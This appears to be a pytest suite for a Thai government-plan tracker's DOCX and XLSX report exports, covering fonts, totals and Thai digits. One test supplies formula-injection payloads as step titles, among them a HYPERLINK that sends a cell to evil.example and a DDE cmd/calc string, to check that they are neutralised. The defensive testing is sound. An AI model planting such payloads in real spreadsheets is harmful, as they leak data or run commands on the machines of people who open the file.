"""The follow-up report as DOCX and XLSX: Thai fonts where Word looks for
them, totals that match the database, no formula injection."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest

from tests.conftest import NOW
from tests.report_factory import bangkok, finish, load_demo_plan, readable_docx
from tracker import thaidate
from tracker.db import db
from tracker.plans import results
from tracker.plans.models import StepStatus
from tracker.plans.progress import Progress
from tracker.plans.services import add_link_evidence
from tracker.reports.docx_common import FONT, add_row, add_table, document_bytes, new_document
from tracker.reports.followup import build_report
from tracker.reports.followup_docx import followup_docx
from tracker.reports.followup_xlsx import (
    BE_DATE_FORMAT,
    BE_DATE_FORMAT_THAI,
    STEPS_SHEET,
    SUMMARY_SHEET,
    followup_xlsx,
    safe_text,
)
from tracker.thaidate import BANGKOK


def xml_of(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name).decode("utf-8")


# -- DOCX ---------------------------------------------------------------------------


def test_docx_sets_the_complex_script_font_and_size(ctx):
    plan = load_demo_plan()
    data = followup_docx(build_report(plan, date(2023, 8, 1)))
    styles = xml_of(data, "word/styles.xml")
    normal = re.search(r'<w:style [^>]*w:styleId="Normal".*?</w:style>', styles, re.S).group(0)
    assert re.search(r'<w:rFonts [^>]*w:cs="TH SarabunPSK"', normal)
    assert re.search(r'<w:rFonts [^>]*w:ascii="TH SarabunPSK"', normal)
    assert '<w:szCs w:val="32"/>' in normal and '<w:sz w:val="32"/>' in normal
    body = xml_of(data, "word/document.xml")
    # Runs carry the font themselves, so a document pasted elsewhere keeps it.
    fonts = re.findall(r"<w:rFonts [^>]*/>", body)
    assert fonts and all('w:cs="TH SarabunPSK"' in f for f in fonts)
    assert '<w:szCs w:val="32"/>' in body and '<w:bCs w:val="1"/>' in body


def test_docx_holds_every_step_title_and_the_page_number(ctx):
    plan = load_demo_plan()
    data = followup_docx(build_report(plan, date(2023, 8, 1)))
    document = readable_docx(data)
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    text = "\n".join(cells) + "\n".join(p.text for p in document.paragraphs)
    for step in plan.steps:  # in the document's one kind of digits (Arabic here)
        assert thaidate.to_arabic_digits(step.title) in text
    assert "รายงานผลการดำเนินการตามมาตรการส่งเสริมคุณธรรมและความโปร่งใสภายในหน่วยงาน" in text
    headers = "".join(xml_of(data, n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "header" in n)
    assert "PAGE" in headers
    section = document.sections[0]
    assert round(section.page_width.cm, 1) == 21.0 and round(section.left_margin.cm, 1) == 3.0
    assert round(section.top_margin.cm, 1) == 2.5 and round(section.right_margin.cm, 1) == 2.0


def test_docx_links_evidence_and_shows_results(world):
    step = world.step(world.m1, 1)
    finish(step, world.owner_palad, bangkok(date(2023, 7, 20)), note="ประกาศแล้ว")
    ev = add_link_evidence(step, world.owner_palad, "https://banpet.example/a.pdf", "ประกาศเทศบาล", NOW)
    results.set_result(world.m2, world.owner_strategy, NOW, value="1,250", unit="ครั้ง")
    db.session.commit()
    data = followup_docx(build_report(world.plan, date(2023, 8, 1), base_url="https://tracker.example"))
    rels = xml_of(data, "word/_rels/document.xml.rels")
    assert f'Target="https://tracker.example/evidence/{ev.id}"' in rels
    body = xml_of(data, "word/document.xml")
    assert "<w:hyperlink" in body and "ประกาศเทศบาล" in body
    assert "1,250 ครั้ง" in body


def test_docx_with_thai_digits_uses_thai_page_numbers(world):
    data = followup_docx(build_report(world.plan, date(2023, 3, 31), thai_digits=True))
    body = xml_of(data, "word/document.xml").replace("\u2060", "").replace("\u200b", "").replace("\u00a0", " ")
    assert "รอบ ๖ เดือน ข้อมูล ณ วันที่ ๓๑ มีนาคม ๒๕๖๖" in body
    # Page numbers in Thai digits for the whole section (Word's thaiNumbers: ๒, ๓), not the
    # PAGE field's ThaiArabic switch, which LibreOffice shows as Thai letters (ข, ค).
    assert '<w:pgNumType w:fmt="thaiNumbers"/>' in body
    headers = "".join(xml_of(data, n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist() if "header" in n)
    assert " PAGE " in headers and "ThaiArabic" not in headers


def test_docx_helpers_build_a_fixed_table(ctx):
    document = new_document()
    table = add_table(document, ["ที่", "รายการ"], (2, 14))
    add_row(table, ["1", ["บรรทัดแรก", "บรรทัดสอง"]])
    data = document_bytes(document)
    body = xml_of(data, "word/document.xml")
    assert '<w:tblLayout w:type="fixed"/>' in body and "<w:tblHeader" in body and "<w:cantSplit" in body
    reopened = readable_docx(data)
    assert [p.text for p in reopened.tables[0].rows[1].cells[1].paragraphs] == ["บรรทัดแรก", "บรรทัดสอง"]
    assert FONT == "TH SarabunPSK"


# -- XLSX ---------------------------------------------------------------------------


def test_xlsx_reopens_and_its_totals_match_the_database(ctx):
    plan = load_demo_plan()
    as_of = date(2023, 8, 1)
    data = followup_xlsx(build_report(plan, as_of))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == [SUMMARY_SHEET, STEPS_SHEET]
    summary = wb[SUMMARY_SHEET]
    rows = [r for r in summary.iter_rows(values_only=True) if r[0] in ("1", "2", "3.1", "3.2", "รวม")]
    by_number = {r[0]: r for r in rows}
    cut_done = [
        s for s in plan.steps if s.status is StepStatus.done and s.completed_at.astimezone(BANGKOK).date() <= as_of
    ]
    for measure in plan.measures:
        row = by_number[measure.number]
        done = sum(1 for s in cut_done if s.measure_id == measure.id)
        assert row[1] == measure.title
        assert (row[4], row[5], row[6]) == (len(measure.steps), done, 0)
        assert row[8] == Progress(done, len(measure.steps)).percent
    # The total row adds up the measure rows by formula (LibreOffice's values: test_report_xlsx_calc.py).
    total = by_number["รวม"]
    numbered = [i for i, r in enumerate(summary.iter_rows(values_only=True), start=1) if r[0] in by_number]
    first, last = numbered[0], numbered[-2]
    assert total[4:9] == (
        f"=SUM(E{first}:E{last})",
        f"=SUM(F{first}:F{last})",
        f"=SUM(G{first}:G{last})",
        f"=SUM(H{first}:H{last})",
        f"=IF(E{last + 1}=0,0,IF(F{last + 1}>=E{last + 1},100,MIN(99,ROUND(F{last + 1}/E{last + 1}*100,0))))",
    )
    assert sum(by_number[m.number][4] for m in plan.measures) == len(plan.steps) == 26
    assert sum(by_number[m.number][5] for m in plan.measures) == len(cut_done)

    steps = wb[STEPS_SHEET]
    titles = [r[2] for r in steps.iter_rows(values_only=True) if r[1] and re.fullmatch(r"[\d.]+", str(r[1]))]
    assert titles == [thaidate.to_arabic_digits(s.title) for s in plan.steps]
    done_rows = [r for r in steps.iter_rows(values_only=True) if r[6] == "ดำเนินการแล้ว"]
    assert len(done_rows) == len(cut_done)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert any(n.startswith("xl/charts/chart") for n in z.namelist())  # the progress chart


def test_xlsx_keeps_a_formula_looking_title_inert(world):
    hostile = {
        1: '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
        2: "+1+1",
        3: "@SUM(A1:A9)",
    }
    for order, title in hostile.items():
        world.step(world.m1, order).title = title
    world.step(world.m2, 1).title = "\t=cmd|' /C calc'!A0"
    world.step(world.m2, 2).title = "-2+3"
    db.session.commit()
    data = followup_xlsx(build_report(world.plan, date(2023, 8, 1)))
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for row in wb[STEPS_SHEET].iter_rows() for c in row if isinstance(c.value, str)]
    texts = {c.value for c in cells}
    assert "'" + hostile[1] in texts and "'+1+1" in texts and "'@SUM(A1:A9)" in texts
    assert "'=cmd|' /C calc'!A0" in texts and "'-2+3" in texts
    assert all(c.data_type == "s" for c in cells)
    formulas = [c.value for row in wb[SUMMARY_SHEET].iter_rows() for c in row if c.data_type == "f"]
    assert len(formulas) == 5 and all(re.fullmatch(r"=(SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\(.*\))", f) for f in formulas)
    steps_xml = xml_of(data, "xl/worksheets/sheet2.xml")
    assert "<f>" not in steps_xml and "<f " not in steps_xml  # only the totals the report writes are formulas


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("=1+1", "'=1+1"),
        ("+66 81", "'+66 81"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\r\n=1", "'=1"),
        ("ปกติ", "ปกติ"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_safe_text(given, kept):
    assert safe_text(given) == kept


def test_xlsx_thai_digits_change_text_not_numbers(world):
    finish(world.step(world.m1, 1), world.admin, bangkok(date(2023, 7, 20)))
    results.set_result(world.m2, world.admin, NOW, value="1,250", unit="ครั้ง")
    db.session.commit()
    plain = openpyxl.load_workbook(io.BytesIO(followup_xlsx(build_report(world.plan, date(2023, 8, 1)))))
    thai = openpyxl.load_workbook(
        io.BytesIO(followup_xlsx(build_report(world.plan, date(2023, 8, 1), thai_digits=True)))
    )
    for name in (SUMMARY_SHEET, STEPS_SHEET):
        a = list(plain[name].iter_rows(values_only=True))
        b = list(thai[name].iter_rows(values_only=True))
        assert len(a) == len(b)
        for row_a, row_b in zip(a, b):
            for x, y in zip(row_a, row_b):
                if isinstance(x, str):
                    assert thaidate.to_arabic_digits(y) == x
                else:
                    assert x == y  # numbers stay numbers
    # Dates are the same date cells; only their number format asks for Thai digits.
    done = [r for r in thai[STEPS_SHEET].iter_rows() if r[8].value is not None and not isinstance(r[8].value, str)]
    assert [r[8].value.date() for r in done] == [date(2023, 7, 20)]
    assert done[0][8].number_format == BE_DATE_FORMAT_THAI
    assert (
        next(r for r in plain[STEPS_SHEET].iter_rows() if r[8].value == done[0][8].value)[8].number_format
        == BE_DATE_FORMAT
    )


def test_a_plan_without_measures_still_makes_every_format(world):
    from tracker.plans.models import Plan
    from tracker.reports.followup import render_html

    empty = Plan(organization=world.org, fiscal_year=2567, title="แผนว่าง")
    db.session.add(empty)
    db.session.commit()
    report = build_report(empty, date(2024, 3, 31))
    assert (report.summary.total, report.summary.percent, report.round) == (0, 0, 6)
    assert "แผนนี้ยังไม่มีประเด็น" in render_html(report)
    assert "แผนนี้ยังไม่มีประเด็น" in xml_of(followup_docx(report), "word/document.xml")
    wb = openpyxl.load_workbook(io.BytesIO(followup_xlsx(report)))
    total = next(r for r in wb[SUMMARY_SHEET].iter_rows(values_only=True) if r[0] == "รวม")
    assert (total[4], total[5], total[8]) == (0, 0, 0)
